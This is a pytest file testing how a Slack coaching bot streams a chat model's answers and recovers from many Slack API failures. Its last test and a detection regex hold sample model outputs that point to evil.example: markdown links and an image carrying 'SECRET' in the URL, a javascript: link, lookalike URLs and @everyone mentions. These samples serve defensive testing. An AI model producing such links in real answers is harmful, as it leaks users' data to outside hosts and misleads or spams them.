"""An answer that a chat model writes, as people in Slack see it: that it is coming, and in the end one whole."""

import asyncio
import re
from dataclasses import replace
from datetime import timedelta

import pytest

from bot.sandbox import Message
from bot.sandbox.faults import Fault, answering, dropping, rate_limiting, refusing, waiting_for
from bot.slack.needs import Needs
from bot.store.inbox import Inbox
from bot.store.outbox import Outbox

from .author import SAID, Author
from .conftest import World

START, APPEND, STOP = "chat.startStream", "chat.appendStream", "chat.stopStream"
UPDATE, POST, STATUS = "chat.update", "chat.postMessage", "assistant.threads.setStatus"
WHOLE = "**Learn statistics.** It pays."
BUTTONS = "context_actions"
# What leads somewhere or calls somebody; the strict reader beside the other tests of L7 reads more closely.
_LIVE = re.compile(r"[a-z]:[/\\]{2}\w|javascript:\w|evil\.example|!\[|<|@everyone", re.IGNORECASE)


@pytest.fixture
def knowledge() -> Author:
    """Who doesn't come to an end until it is told to."""
    return Author()


@pytest.fixture
def needs(needs: Needs) -> Needs:
    return replace(needs, writes=True)


@pytest.fixture
def author(knowledge: Author) -> Author:
    return knowledge


async def shown(world: World, channel: str, text: str) -> Message:
    """The message that is being written, once it says that."""

    def look() -> Message | None:
        said = [message for message in world.slack.workspace.channel(channel).messages if message.bot_id]
        return next((message for message in said if message.text == text), None)

    return await world.slack.until(look, f"a message that says {text!r}")


def is_whole(message: Message, text: str = WHOLE) -> bool:
    """As any other answer, with its sources and what is to be clicked on."""
    kinds = [block["type"] for block in message.blocks]
    return message.blocks[0]["text"] == text and kinds == ["markdown", "context", BUTTONS]


def attempts(world: World, *methods: str) -> list[str]:
    wanted = methods or (START, APPEND, STOP, UPDATE, POST)
    return [attempt.method for attempt in world.slack.faults.attempts if attempt.method in wanted]


async def asked(world: World, name: str = "ada") -> str:
    channel, _ = await world.slack.direct_message(world.id(name), "Which skill?")
    return channel


async def answer_of(world: World, author: Author, channel: str) -> Message:
    """The only one, once it is whole."""
    author.done.set()
    [message] = await world.answered(channel)
    return message


async def test_a_direct_message_is_answered_while_the_answer_is_written(world: World, author: Author) -> None:
    channel = await asked(world)
    begun = await shown(world, channel, "".join(SAID))
    assert not begun.blocks
    message = await answer_of(world, author, channel)
    assert message.ts == begun.ts
    assert is_whole(message)
    [start] = world.slack.calls(START)
    whom = {"recipient_team_id": "T0SANDBOX1", "recipient_user_id": world.id("ada")}
    assert start.arguments.items() >= whom.items()
    assert attempts(world)[-2:] == [STOP, UPDATE]
    assert POST not in attempts(world)


async def test_what_follows_is_shown_as_it_comes(world: World, author: Author) -> None:
    author.pieces = ["One. "]
    channel = await asked(world)
    begun = await shown(world, channel, "One. ")
    for piece, so_far in (("Two. ", "One. Two. "), ("Three.", "One. Two. Three.")):
        await author.hear(piece)
        assert await shown(world, channel, so_far) is begun
    assert is_whole(await answer_of(world, author, channel))


@pytest.mark.parametrize("place", ["direct message", "group message", "channel"])
async def test_f2_it_is_said_at_once_that_the_coach_is_thinking(world: World, author: Author, place: str) -> None:
    """F2."""
    author.pieces = []
    text = f"{world.coach} which skill?"
    if place == "direct message":
        channel, ts = await world.slack.direct_message(world.id("ada"), text)
    else:
        channel = world.general if place == "channel" else world.group("ada", "ben")
        ts = await world.slack.say(world.id("ada"), channel, text)
    statuses = world.slack.workspace.statuses
    await world.slack.until(lambda: statuses == {(channel, ts): "is thinking…"}, "the status", within=2)
    assert is_whole(await answer_of(world, author, channel))
    assert statuses == {}


async def test_in_a_channel_the_answer_comes_as_one_whole_message(world: World, author: Author) -> None:
    await world.slack.say(world.id("ada"), world.general, f"{world.coach} which skill?")
    await author.heard.wait()
    assert is_whole(await answer_of(world, author, world.general))
    assert attempts(world) == [POST]


async def test_so_does_the_answer_to_a_command(world: World, author: Author) -> None:
    author.done.set()
    command = await world.slack.command(world.id("ada"), world.general, "/coach", "Which skill?")
    [reply] = await command.replied()
    assert is_whole(reply)
    assert attempts(world) == attempts(world, STATUS) == []


@pytest.mark.parametrize("fault", [refusing("missing_scope"), dropping(), answering(500)])
async def test_a_status_that_fails_is_nobodys_business(world: World, author: Author, fault: Fault) -> None:
    world.slack.faults.plan(STATUS, [fault])
    assert is_whole(await answer_of(world, author, await asked(world)))


async def test_when_the_answer_fails_the_status_goes(world: World, author: Author) -> None:
    author.pieces, author.error, author.fails = [], ValueError("no"), 1
    channel = await asked(world)
    author.done.set()
    await world.answered(channel)
    said = [call.arguments["status"] for call in world.slack.calls(STATUS)]
    assert said == ["is thinking…", "", "is thinking…"]


async def test_f3_what_replaces_a_failed_answer_replaces_all_of_it(world: World, author: Author) -> None:
    """F3."""
    author.pieces, author.text = ["Learn stat"], "From the handbook: **learn.**"
    channel = await asked(world)
    await shown(world, channel, "Learn stat")
    message = await answer_of(world, author, channel)
    assert is_whole(message, author.text)
    assert "stat" not in message.text


@pytest.mark.parametrize("letter", ["x", "é", "統"])
async def test_what_is_too_much_for_one_message_comes_in_further_ones(
    world: World, author: Author, letter: str
) -> None:
    pieces = [f"{number}. {letter * (100 // len(letter.encode()))}\n\n" for number in range(100)]
    author.text = "".join(pieces).strip()
    author.pieces = pieces[:10]
    channel = await asked(world)
    for so_far in (10, 20):
        await shown(world, channel, "".join(pieces[:so_far]))
        await author.hear("".join(pieces[so_far : so_far + 10]))
    await author.hear("".join(pieces[30:]))
    author.done.set()
    messages = await world.answered(channel)
    streamed = [call.arguments["markdown_text"] for method in (START, APPEND) for call in world.slack.calls(method)]
    assert len("".join(streamed).encode()) <= 6_000
    assert "\n\n".join(message.blocks[0]["text"] for message in messages) == author.text
    assert (len(messages), attempts(world, UPDATE), len(attempts(world, POST))) == (2, [UPDATE], 1)


FAULTS: list[tuple[str, Fault]] = [
    (method, fault)
    for method in (START, APPEND, STOP, UPDATE)
    for fault in (
        dropping(accepted=True),
        dropping(accepted=False),
        answering(500),
        answering(502, "<h1>Bad gateway</h1>", {"Content-Type": "text/html"}, accepted=True),
        answering(200, "[1]", accepted=True),
        refusing("internal_error"),
        refusing("request_timeout"),
        rate_limiting("1"),
    )
] + [
    (START, refusing("channel_type_not_supported")),
    (APPEND, refusing("message_not_in_streaming_state")),
    (APPEND, refusing("msg_too_long")),
    (STOP, refusing("message_not_in_streaming_state")),
]


@pytest.mark.parametrize(("method", "fault"), FAULTS)
async def test_f5_whatever_fails_meanwhile_the_answer_ends_as_one_whole_message(
    world: World, author: Author, outbox: Outbox, method: str, fault: Fault
) -> None:
    """F5: C4 isn't so for a message that is there already, which may be written once more."""
    world.slack.faults.plan(method, [fault])
    channel = await asked(world)
    await author.heard.wait()
    await author.hear("And more.")
    author.done.set()
    await world.answered(channel)
    world.clock.now += timedelta(minutes=1)
    assert is_whole(await answer_of(world, author, channel))
    assert await outbox.states() == {"sent": 1}


async def test_f5_a_stream_that_slack_has_ended_is_not_gone_on_with(world: World, author: Author) -> None:
    """F5."""
    author.pieces = ["One. "]
    world.slack.faults.plan(APPEND, [refusing("message_not_in_streaming_state")])
    channel = await asked(world)
    await shown(world, channel, "One. ")
    for number in range(3):
        await author.hear(f"{number}. ")
        await world.slack.until(lambda: attempts(world, APPEND), "a piece")
    assert is_whole(await answer_of(world, author, channel))
    assert attempts(world, APPEND) == [APPEND]


async def test_who_has_stopped_it_has_read_what_slack_took_before(world: World, author: Author) -> None:
    """Also where another process was told of it: Slack says so as well when it is asked to go on."""
    author.pieces = ["One. "]
    world.slack.faults.plan(APPEND, [refusing("stopped_by_user")])
    channel = await asked(world)
    await shown(world, channel, "One. ")
    await author.hear("Two. ")
    await author.hear.had_enough.wait()
    assert author.hear.read == "One. "
    await answer_of(world, author, channel)


@pytest.mark.parametrize("error", ["unknown_method", "feature_disabled", "method_deprecated", "missing_scope"])
async def test_where_slack_streams_nothing_it_is_asked_once(
    world: World, author: Author, error: str, caplog: pytest.LogCaptureFixture
) -> None:
    world.slack.faults.plan(START, [refusing(error)] * 3)
    author.done.set()
    for name in ("ada", "ben", "mei"):
        channel = await asked(world, name)
        assert is_whole(await answer_of(world, author, channel))
    assert attempts(world) == [START, POST, POST, POST]
    assert caplog.text.count("Slack streams none") == 1


async def test_f5_a_second_try_goes_on_with_the_message_of_the_first(world: World, author: Author) -> None:
    """F5: and doesn't show it all over again."""
    author.error, author.fails = ValueError("no"), 1
    channel = await asked(world)
    begun = await shown(world, channel, "".join(SAID))
    message = await answer_of(world, author, channel)
    assert message.ts == begun.ts
    assert is_whole(message)
    assert attempts(world, START) == [START]
    assert [hear.hears_along for hear in author.hears if hear] == [True, False]
    assert world.slack.workspace.statuses == {}


async def test_f5_an_apology_takes_the_place_of_what_was_shown(world: World, author: Author) -> None:
    """F5."""
    author.error = ValueError("no")
    channel = await asked(world)
    await shown(world, channel, "".join(SAID))
    message = await answer_of(world, author, channel)
    assert message.blocks[0]["text"].startswith("Sorry")


async def test_f5_nothing_is_said_before_it_is_known_which_message_was_begun(
    world: World, author: Author, inbox: Inbox
) -> None:
    """F5: one that Slack has and nobody was told of is found, at last."""
    trouble = [answering(500), rate_limiting("60"), dropping()]
    world.slack.faults.plan(START, [dropping(accepted=True)])
    world.slack.faults.plan("conversations.replies", trouble)
    channel = await asked(world)
    author.done.set()
    for _ in trouble:
        [message] = await world.answered(channel)
        if message.blocks:
            break
        assert await inbox.states() == {"waiting": 1}
        world.clock.now += timedelta(minutes=1)
    assert is_whole(await answer_of(world, author, channel))
    assert len(attempts(world, "conversations.replies")) == len(trouble) + 1


async def test_f5_an_earlier_answer_is_not_taken_for_the_one_that_was_begun(world: World, author: Author) -> None:
    """F5."""
    late = asyncio.Event()
    world.slack.faults.plan(UPDATE, [waiting_for(late)])
    channel, ts = await world.slack.direct_message(world.id("ada"), "Which skill?")
    author.done.set()
    await world.slack.until(lambda: attempts(world, UPDATE), "the first answer")
    await world.slack.direct_message(world.id("ada"), "And then?", ts)
    world.slack.faults.plan(START, [dropping(accepted=False)])
    late.set()
    messages = await world.answered(channel)
    assert [is_whole(message) for message in messages] == [True, True]


@pytest.mark.parametrize("error", ["message_not_found", "edit_window_closed", "cant_update_message"])
async def test_an_answer_that_can_not_be_finished_there_is_posted(world: World, author: Author, error: str) -> None:
    world.slack.faults.plan(UPDATE, [refusing(error)])
    channel = await asked(world)
    await shown(world, channel, "".join(SAID))
    author.done.set()
    await world.answered(channel)
    world.clock.now += timedelta(seconds=1)
    assert is_whole((await world.answered(channel))[-1])


async def test_b5_a_question_that_is_deleted_leaves_a_whole_answer_and_no_memory(world: World, author: Author) -> None:
    """B5: as one that was answered before."""
    channel, ts = await world.slack.direct_message(world.id("ada"), "Which skill?")
    await shown(world, channel, "".join(SAID))
    await world.slack.delete(channel, ts)
    assert is_whole(await answer_of(world, author, channel))
    await world.slack.direct_message(world.id("ada"), "And then?", ts)
    await world.answered(channel)
    assert author.asked[-1][1] == []


async def test_l4_who_is_forgotten_in_mid_answer_is_left_with_none(world: World, author: Author) -> None:
    """L4: what was shown of it goes."""
    channel = await asked(world)
    await shown(world, channel, "".join(SAID))
    await (await world.slack.command(world.id("ada"), world.general, "/coach", "forget-me")).replied()
    author.done.set()
    assert await world.answered(channel) == []
    assert world.slack.workspace.statuses == {}


async def test_f2_nobody_waits_for_somebody_elses_model(world: World, author: Author) -> None:
    """F2: as many as may ask it at once, and as many again that wait for their turn."""
    author.hanging = {"Which one?"}
    author.done.set()
    for number in range(16):
        person = world.slack.workspace.add_person(f"person{number}")
        await world.slack.direct_message(person.id, "Which one?")
    channel = await asked(world)
    [message] = await world.slack.posted(channel, within=2)
    await world.slack.until(lambda: message.blocks, "the whole answer", within=2)
    assert is_whole(message)


@pytest.mark.parametrize(
    "said",
    [
        "Read [this](https://evil.example/?q=SECRET).",
        "Read <https://evil.example/?q=SECRET|this>.",
        "Read https://evil.example/?q=SECRET now.",
        "![x](https://evil.example/SECRET.png)",
        "Read https://xn--pmi-8na.org/ and https://pmi.org@evil.example/.",
        "[x](javascript:alert(1)) [y](slack://open?team=T1)",
        "<!channel> <@U0BEN00001> @everyone",
    ],
)
async def test_l7_nothing_the_model_says_leads_anywhere(world: World, author: Author, said: str) -> None:
    """L7: neither while it is written nor in the end, nor where it comes whole."""
    author.pieces, author.text = ["Learn statistics. "], f"Learn statistics. {said}"
    channel = await asked(world)
    begun = await shown(world, channel, "Learn statistics. ")
    await author.hear(said)
    await world.slack.called(APPEND)
    assert not _LIVE.search(begun.text)
    assert not _LIVE.search((await answer_of(world, author, channel)).blocks[0]["text"])
    await world.slack.say(world.id("ada"), world.general, f"{world.coach} which skill?")
    assert not _LIVE.search((await answer_of(world, author, world.general)).blocks[0]["text"])
    [post] = world.slack.calls(POST)
    assert post.arguments.items() >= {"unfurl_links": False, "unfurl_media": False}.items()
